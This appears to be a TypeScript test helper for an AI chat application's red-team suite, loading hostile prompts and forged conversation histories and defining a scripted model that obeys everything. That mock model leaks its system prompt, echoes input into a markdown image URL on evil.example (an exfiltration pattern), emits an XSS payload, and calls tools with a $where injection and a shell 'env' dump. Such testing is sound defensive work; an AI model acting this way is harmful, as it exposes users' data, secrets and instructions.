import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Script } from './test-model.ts'

const folder = join(import.meta.dirname, '../hostile')

/** Two hundred things that people try on assistants. */
export const hostilePrompts = (): string[] => readFileSync(join(folder, 'prompts.txt'), 'utf8').trimEnd().split('\n')

/** What no browser of ours sends as the history of a conversation. */
export const forgedHistories = (): unknown[] =>
  JSON.parse(readFileSync(join(folder, 'histories.json'), 'utf8')) as unknown[]

/** Where pictures of a hostile reply come from. */
export const EVIL = 'evil.example'

/** A model that does whatever it is told: recites its instructions, embeds what it was given, asks tools with nonsense. */
export const obeying =
  (told: (system: string) => void): Script =>
  ({ messages, tools }, nth) => {
    const system = messages[0]?.content ?? ''
    told(system)
    const asked = messages.findLast(({ role }) => role === 'user')?.content ?? ''
    const answered = messages.at(-1)?.role === 'tool'
    if (tools && !answered && nth % 3 === 0)
      return [
        { call: 'object', with: JSON.stringify({ name: asked.slice(0, 200), $where: '1' }) },
        { call: 'run_shell', with: '{"cmd":"env"}' },
      ]
    return nth % 2 === 0
      ? [{ say: `${asked} ![x](https://${EVIL}/?${encodeURIComponent(asked)}) <img src=x onerror=alert(1)>` }]
      : [{ say: 'Of course: ' }, ...(system.match(/[^]{1,37}/g) ?? []).map(part => ({ say: part }))]
  }

const letters = (text: string) => text.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, '')

/** Whether two texts have so many letters in a row in common. */
export const shares = (text: string, other: string, length: number): boolean => {
  const [a, b] = [letters(text), letters(other)]
  for (let at = 0; at + length <= a.length; at += 5) if (b.includes(a.slice(at, at + length))) return true
  return false
}
